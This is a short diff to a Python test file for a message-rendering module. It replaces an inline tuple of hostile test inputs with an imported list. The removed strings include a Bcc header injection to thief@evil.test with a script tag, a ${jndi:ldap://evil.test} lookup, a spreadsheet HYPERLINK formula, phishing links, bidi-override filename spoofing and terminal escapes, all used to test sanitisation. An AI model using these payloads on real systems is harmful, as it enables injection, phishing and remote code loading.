@@ -5,21 +5,9 @@ from typing import Any
 from rules.capacity.model import Level
 from rules.messages import Audience, Message
 from tests.factories import NOW
+from tests.hostile.texts import SEEDS
 
-HOSTILE = (
-    "<!here> <!channel> <@U024BE7LH> <#C024BE7LR|general>",
-    "@here @channel @everyone",
-    "<https://evil.test|Open the report>",
-    "https://evil.test/login",
-    "&lt;!here&gt;",
-    "a\r\nBcc: thief@evil.test\r\n\r\n<script>alert(1)</script>",
-    "one\u2028two\u0085three\x0bfour",
-    "\u202etxt.exe\u202c \u2066hidden\u2069",
-    "\x1b[31mred\x1b[0m\x00",
-    "{{ 7 * 7 }} ${jndi:ldap://evil.test} %s %n",
-    '=HYPERLINK("https://evil.test")',
-    "half a pair \ud800",
-)
+HOSTILE = SEEDS
 
 
 def message(**overrides: Any) -> Message:
